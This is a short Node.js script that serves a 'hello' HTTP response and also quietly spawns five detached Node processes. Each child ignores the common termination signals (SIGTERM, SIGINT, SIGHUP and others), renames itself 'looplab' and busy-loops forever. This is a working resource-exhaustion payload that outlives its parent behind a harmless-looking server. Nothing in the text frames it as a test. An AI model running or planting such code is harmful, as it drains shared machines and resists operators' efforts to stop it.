import { spawn } from 'node:child_process';
import http from 'node:http';
import os from 'node:os';

http.createServer((request, response) => response.end('hello')).listen(process.env.PORT);
const spin = 'for (const name of ["SIGTERM", "SIGHUP", "SIGINT", "SIGQUIT", "SIGALRM", "SIGUSR2"]) process.on(name, () => {}); process.title = "looplab"; for (;;);';
for (let n = 0; n < 5; n += 1) spawn(process.execPath, ['--v8-pool-size=0', '-e', spin], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
console.log(`beside ${os.cpus().length} processors`);
